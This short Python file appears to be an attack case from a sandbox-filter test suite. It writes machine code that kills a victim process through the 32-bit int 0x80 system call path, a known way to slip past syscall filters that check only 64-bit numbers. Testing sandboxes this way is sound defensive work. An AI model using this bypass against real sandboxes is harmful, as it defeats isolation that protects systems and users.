"""Make system calls by the 32-bit convention, whose numbers mean something else to a filter."""

import ctypes
import mmap
import os
import struct

STATUS = "crashed"


def attack(target):
    if os.uname().machine != "x86_64":
        os.abort()
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov ebx, victim; mov ecx, SIGKILL; mov eax, 37 (kill, for 32 bits); int 0x80; pop rbx; ret
    page.write(b"\x53\xbb" + struct.pack("I", target["victim"]) + b"\xb9\x09\0\0\0\xb8\x25\0\0\0\xcd\x80\x5b\xc3")
    return [ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()]
